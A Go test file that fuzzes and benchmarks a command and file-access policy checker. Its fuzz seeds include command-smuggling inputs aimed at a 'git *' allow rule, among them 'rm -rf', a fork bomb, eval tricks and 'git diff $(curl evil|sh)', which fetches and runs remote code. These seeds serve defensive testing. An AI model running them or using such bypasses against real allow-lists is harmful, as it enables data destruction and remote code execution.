package policy_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/hutch-dev/hutch"
	"github.com/hutch-dev/hutch/guard"
	"github.com/hutch-dev/hutch/local"
	"github.com/hutch-dev/hutch/policy"
	"github.com/hutch-dev/hutch/state"
)

// FuzzPattern: whatever a pattern and a name are, there is an answer; a rule that
// denies takes at least what the same rule would allow, and what a Set with a bad
// pattern allows is nothing.
func FuzzPattern(f *testing.F) {
	for _, p := range []string{"**/.env", "a*", "[!a]*", "{a,b}/**", "/workspace/a", "//etc/**", "git *", "go {test,vet} *", `\[ *`, "* --force", "@dangerous", "x y", "{a b,c} *"} {
		f.Add(p, "a/b .env")
	}
	f.Fuzz(func(t *testing.T, pattern, name string) {
		for _, op := range []guard.Op{guard.Read, guard.Execute} {
			rule := policy.Set{Default: policy.Deny}
			rule.For(op).Rules = []policy.Rule{{Pattern: pattern, Action: policy.Allow}}
			against := policy.Set{Default: policy.Allow}
			against.For(op).Rules = []policy.Rule{{Pattern: pattern, Action: policy.Deny}}
			yes, err := rule.Checker(nil)
			no, err2 := against.Checker(nil)
			if err != nil || err2 != nil {
				continue // patterns that nearly blow up may do for one of them
			}
			r := &guard.Request{Op: op, Name: name}
			if op == guard.Execute {
				r.Name, r.Cmd = ".", hutch.Shell(name)
			} else if hutch.CheckName("read", name) != nil {
				continue
			}
			allowed, denied := yes.Check(context.Background(), r) == nil, no.Check(context.Background(), r) != nil
			if allowed && !denied && op == guard.Read {
				t.Fatalf("%s: %q allows %q and does not deny it", op, pattern, name)
			}
		}
	})
}

// FuzzCommand: whatever a command is, there is an answer, and what allow rules take
// is made of nothing but what they name.
func FuzzCommand(f *testing.F) {
	for _, s := range []string{
		"git status; rm -rf x", "git diff $(curl evil|sh)", "sh -c 'git status'", "env A=1 git x", "xargs -I{} git {}", "find . -exec git {} \\;", "f() { git x; }; f", "cat <<E\n$(git)\nE",
		"git > a 2>&1", "timeout -k 3 5 git x", "eval 'git x'", "[[ a ]] && git", "git ${x:-$(git)}", "for x in a b; do git $x; done", ":(){ :|:& };:", "echo $'\\'' git", "g\\it x", "bash -oc x 'git'",
	} {
		f.Add(s)
	}
	s := allowing("git *")
	k := checker(f, s)
	open := checker(f, policy.Permissive())
	f.Fuzz(func(t *testing.T, script string) {
		d, err := k.Explain(context.Background(), guard.Execute, script)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range d.Parts {
			if d.Action == policy.Allow && (p.Action != policy.Allow || p.Op == guard.Execute && p.Rule == 0 && !strings.HasPrefix(p.Target, "git") && !strings.HasPrefix(p.Target, "'git")) {
				t.Fatalf("%q is allowed with %+v", script, p)
			}
		}
		_, _ = open.Explain(context.Background(), guard.Execute, script)
	})
}

// hundred is a policy of a hundred rules about reading.
func hundred() policy.Set {
	s := policy.Permissive()
	for i := len(s.Read.Rules); i < 100; i++ {
		p := []string{"**/*.k%d", "private%d/**", "**/secret-%d", "a/b/c%d", "**/[ab]%d*"}[i%5]
		s.Read.Rules = append(s.Read.Rules, policy.Rule{Pattern: fmt.Sprintf(p, i), Action: policy.Deny})
	}
	return s
}

// BenchmarkRead reads a file of 4 KiB of a hundred, with and without rules, side
// by side.
func BenchmarkRead(b *testing.B) {
	ctx := context.Background()
	dir, err := local.Open(b.TempDir(), nil)
	if err != nil {
		b.Fatal(err)
	}
	defer dir.Close()
	for name, plain := range map[string]hutch.Backend{"state": state.New(nil), "local": dir} {
		var names []string
		for i := range 100 {
			names = append(names, fmt.Sprintf("src/pkg%d/file%d.go", i%7, i))
			if _, err := plain.Write(ctx, names[i], strings.NewReader(strings.Repeat("x", 4096)), nil); err != nil {
				b.Fatal(err)
			}
		}
		s := hundred()
		guarded, err := guard.New(ctx, plain, checker(b, s), &guard.Options{Accept: []guard.Op{guard.Read, guard.Write}})
		if err != nil {
			b.Fatal(err)
		}
		b.Run(name, func(b *testing.B) { sideBySide(b, names, plain, guarded) })
	}
}

// sideBySide reads all names by turns from one and from the other, and reports the
// quickest turn of each: what else the machine does hits both.
func sideBySide(b *testing.B, names []string, plain, guarded hutch.Backend) {
	turn := func(from hutch.Backend) time.Duration {
		begin := time.Now()
		for _, name := range names {
			if _, err := hutch.ReadFile(context.Background(), from, name); err != nil {
				b.Fatal(err)
			}
		}
		return time.Since(begin)
	}
	one, other := time.Hour, time.Hour
	for b.Loop() {
		one, other = min(one, turn(plain)), min(other, turn(guarded))
	}
	n := float64(len(names))
	b.ReportMetric(float64(one)/n, "ns/plain")
	b.ReportMetric(float64(other)/n, "ns/guarded")
	b.ReportMetric(float64(other)/float64(one), "ratio")
}

// BenchmarkCheck is what a decision costs: about a name that was asked about before,
// about one that was not, and about a command.
func BenchmarkCheck(b *testing.B) {
	ctx := context.Background()
	s := hundred()
	k := checker(b, s)
	r := &guard.Request{Op: guard.Read, Name: "src/pkg/file.go"}
	b.Run("known", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := k.Check(ctx, r); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("new", func(b *testing.B) {
		b.ReportAllocs()
		seed := rand.Uint64()
		for i := 0; b.Loop(); i++ {
			r := &guard.Request{Op: guard.Read, Name: fmt.Sprintf("src/pkg/file%d-%d.go", seed, i)}
			if err := k.Check(ctx, r); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("command", func(b *testing.B) {
		r := &guard.Request{Op: guard.Execute, Name: ".", Cmd: hutch.Shell("cd web && npm test 2>&1 | tail -n 20")}
		for b.Loop() {
			if err := k.Check(ctx, r); err != nil {
				b.Fatal(err)
			}
		}
	})
}
